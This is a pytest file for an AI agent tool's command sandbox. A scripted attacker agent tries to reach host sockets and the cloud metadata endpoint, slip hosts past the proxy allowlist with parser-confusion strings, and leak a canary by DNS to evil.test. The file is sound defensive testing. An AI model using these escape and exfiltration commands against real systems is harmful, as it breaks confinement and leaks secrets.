"""E7 and E10-E12 of the list of attacks: what a command tries to reach, and what happens where nothing confines it."""

from __future__ import annotations

import asyncio
import logging
import socket
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from operant.kit import sandbox
from tests.journey.attacker import BUBBLEWRAP, CANARY, attacker

REACH = """
import socket, sys
def attempt(name, family, kind, place, data=b''):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            one.connect(place)
            if data: one.sendto(data, place)
            print(name, 'REACHED', one.recv(100))
    except OSError as error:
        print(name, 'refused:', error)
U, I, S, D = socket.AF_UNIX, socket.AF_INET, socket.SOCK_STREAM, socket.SOCK_DGRAM
for name, place in [one.split('=') for one in sys.argv[1:]]:
    if ':' in place:
        host, port = place.rsplit(':', 1)
        attempt(name, I, S, (host, int(port)))
    elif place.startswith('@'):
        attempt(name, U, S, chr(0) + place[1:])
    else:
        attempt(name, U, S, place)
try:
    print('dns', 'REACHED', socket.getaddrinfo('canary.attacker.test', 80))
except OSError as error:
    print('dns', 'refused:', error)
for server in ('127.0.0.53', '8.8.8.8', '1.1.1.1'):
    attempt('udp ' + server, I, D, (server, 53), bytes.fromhex('000101000001000000000000') + b'\\4test\\0\\0\\1\\0\\1')
attempt('icmp', I, socket.SOCK_RAW, ('8.8.8.8', 0))
attempt('vsock', 40, S, (2, 1024))
"""


class Listener:
    """Something of this machine that must not be called."""

    def __init__(self) -> None:
        self.called: list[str] = []

    def at(self, name: str):
        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.called.append(name)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
            await writer.drain()
            writer.close()

        return answer


@asynccontextmanager
async def neighbours(folder: Path) -> AsyncIterator[tuple[Listener, dict[str, str]]]:
    """Run what a desktop has: a service on loopback, sockets of docker, dbus and an ssh agent, an abstract one."""
    listener = Listener()
    abstract = f"operant-test-{folder.name}-{id(listener)}"
    async with (
        await asyncio.start_server(listener.at("loopback"), "127.0.0.1", 0) as loopback,
        await asyncio.start_unix_server(listener.at("docker"), folder / "docker.sock"),
        await asyncio.start_unix_server(listener.at("dbus"), folder / "dbus.sock"),
        await asyncio.start_unix_server(listener.at("agent"), folder / "agent.sock"),
        await asyncio.start_unix_server(listener.at("abstract"), "\0" + abstract),
    ):
        port = loopback.sockets[0].getsockname()[1]
        places = {"loopback": f"127.0.0.1:{port}", "abstract": f"@{abstract}"}
        yield listener, {**places, **{name: str(folder / f"{name}.sock") for name in ("docker", "dbus", "agent")}}


@pytest.fixture
def folder() -> Iterator[Path]:
    """Return a short path outside of any temporary directory's tree that a sandbox could have."""
    import tempfile

    with tempfile.TemporaryDirectory(prefix="op") as path:
        yield Path(path)


@BUBBLEWRAP
@pytest.mark.parametrize("network", ["none", "full", ["example.org"]])
async def test_e7_nothing_of_the_machine_is_reached(
    folder: Path, monkeypatch: pytest.MonkeyPatch, network: object
) -> None:
    async with neighbours(folder) as (listener, places):
        monkeypatch.setenv("SSH_AUTH_SOCK", places["agent"])
        monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={places['dbus']}")
        monkeypatch.setenv("DISPLAY", ":0")
        async with attacker(folder / "home", {"defaults": {"models": ["scripted/one"], "network": network}}) as evil:
            evil.put("reach.py", REACH)
            more = {
                "gateway": str(evil.made.home.socket),
                "docker0": "/var/run/docker.sock",
                "x11": "@/tmp/.X11-unix/X0",
                "metadata": "169.254.169.254:80",
                "bus": "/run/dbus/system_bus_socket",
            }
            words = " ".join(f"{name}={place}" for name, place in {**places, **more}.items())
            said, env = await evil.says(f"python3 reach.py {words}", "env")
            ways = ["curl -sS -m 5 http://{}/", "curl -sS -m 5 --proxytunnel http://{}/"]
            local = [places["loopback"], "169.254.169.254", "[::ffff:169.254.169.254]", "0.0.0.0:80", "2130706433"]
            proxied = await evil.says(*(f"{way.format(place)}" for place in local for way in ways))
    assert "REACHED" not in said
    assert said.count("refused: ") == len(places) + len(more) + 6
    assert listener.called == []
    assert "hello" not in repr(proxied)
    assert not any(name in env for name in ("SSH_AUTH_SOCK", "DBUS", "DISPLAY"))


FETCH = """
import os, socket, sys
port = int(os.environ['http_proxy'].rpartition(':')[2])
with socket.create_connection(('127.0.0.1', port), 5) as one:
    one.sendall(f'GET http://{sys.argv[1]}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())
    while data := one.recv(1000):
        print(data.decode(), end='')
"""


@BUBBLEWRAP
async def test_a_host_on_the_list_is_reached_through_the_proxy_and_no_other(folder: Path) -> None:
    async with neighbours(folder) as (listener, places):
        more: dict[str, object] = {
            "defaults": {"models": ["scripted/one"], "network": [places["loopback"]]},
            "egress": {"private": ["127.0.0.1"]},
        }
        async with attacker(folder / "home", more) as evil:
            evil.put("fetch.py", FETCH)
            can, cannot, direct = await evil.says(
                f"python3 fetch.py {places['loopback']}",
                "python3 fetch.py 127.0.0.1:1",
                f"curl -sS -m 5 --noproxy '*' http://{places['loopback']}/",
            )
    assert can.endswith("hello")
    assert "403" in cannot
    assert "hello" not in direct
    assert listener.called == ["loopback"]


E11 = (
    "evil.test\\0.ok.test",
    "evil.test%00.ok.test",
    "ok.test.evil.test",
    "ok.test@evil.test",
    "evil.test#ok.test",
    "evil.test?.ok.test",
    "evil.test\\\\.ok.test",
    "notok.test",
    "xn--ok-.test",
    "\u043ek.test",
    "[::ffff:1.2.3.4]",
    "[2001:db8::1]",
    "1.2.3.4",
)


@BUBBLEWRAP
async def test_e11_one_parser_reads_every_host(tmp_path: Path) -> None:
    ask = """
import os, socket, sys
def ask(target, header=''):
    with socket.create_connection(('127.0.0.1', 3128), 5) as one:
        one.sendall(f'CONNECT {target} HTTP/1.1\\r\\nHost: {header or target}\\r\\n\\r\\n'.encode())
        return one.recv(1000).decode().splitlines()[0]
for host in HOSTS:
    print(ascii(host), ask(host + ':443', 'ok.test'))
print('FINE', [ask(host) for host in ('ok.test:443', 'OK.test.:443', 'a.under.test:80')])
print('PORT', ask('ok.test:22'), ask('under.test:443'))
"""
    more: dict[str, object] = {"defaults": {"models": ["scripted/one"], "network": ["ok.test", "*.under.test"]}}
    async with attacker(tmp_path / "home", more) as evil:
        hosts = "[" + ", ".join(f"'{host}'" for host in E11) + "]"
        evil.put("ask.py", ask.replace("HOSTS", hosts))
        (said,) = await evil.says("python3 ask.py")
    *asked, fine, port = said.splitlines()
    assert len(asked) == len(E11), said
    for line in asked:
        assert " 403 " in line or " 400 " in line, line
    assert fine.count("502") == 3, fine  # allowed, but there are no such names
    assert port.count("403") == 2, port


@BUBBLEWRAP
async def test_e12_a_name_carries_nothing_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    real = socket.getaddrinfo
    monkeypatch.setattr(
        socket, "getaddrinfo", lambda host, *rest, **more: asked.append(str(host)) or real(host, *rest, **more)
    )
    more: dict[str, object] = {"defaults": {"models": ["scripted/one"], "network": ["ok.test"]}}
    async with attacker(tmp_path / "home", more) as evil:
        said = await evil.says(
            f"getent hosts {CANARY}.evil.test; curl -sS -m 3 http://{CANARY}.evil.test/",
            f"curl -sS -m 3 --noproxy '*' http://{CANARY}.evil.test/",
            f"python3 -c \"import socket; socket.gethostbyname('{CANARY}.evil.test')\"",
            "cat /etc/resolv.conf; ls /run",
        )
    assert "403" in said[0] or "not on the list" in said[0]
    assert "resolve" in said[1]
    assert "gaierror" in said[2]
    assert "nameserver" not in said[3]
    assert not any("CANARY" in host.upper() for host in asked)


async def test_e10_without_a_sandbox_nothing_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "find_bubblewrap", lambda: "")
    async with attacker(tmp_path / "home", {"sandbox": {"by": ["bubblewrap"]}}) as evil:
        (one,) = await evil.run("touch ran; echo ran")
        assert one.outcome == "error"
        assert one.text.startswith("Nothing here can confine a command: Bubblewrap is not installed.")
        assert "Install bubblewrap" in one.text
        assert "sandbox: false" in one.text
        assert "\n" not in one.text
        assert not (evil.workspace / "ran").exists()


async def test_e10_without_user_namespaces_nothing_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    broken = tmp_path / "bwrap"
    broken.write_text(
        '#!/bin/sh\n[ "$1" = --help ] || { echo "bwrap: No permissions to create new namespace"; exit 1; }\n'
    )
    broken.chmod(0o700)
    monkeypatch.setattr(sandbox, "find_bubblewrap", lambda: str(broken))
    async with attacker(tmp_path / "home", {"sandbox": {"by": ["bubblewrap"]}}) as evil:
        (one,) = await evil.run("touch ran")
        assert "No permissions to create new namespace" in one.text
        assert "user namespaces" in one.text
        assert not (evil.workspace / "ran").exists()


async def test_e10_going_without_is_a_deliberate_act_that_is_seen(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    agents = {"operant": {"sandbox": False, "approval": {"shell": "allow"}}}
    more: dict[str, object] = {"agents": agents, "sandbox": {"by": []}}
    with caplog.at_level(logging.WARNING, "operant"):
        async with attacker(tmp_path / "home", more) as evil:
            (one,) = await evil.run(f"ls {tmp_path}")
            log = evil.made.home.log.read_text()
    assert "home" in one.text
    assert "agent operant runs commands outside of any sandbox" in log
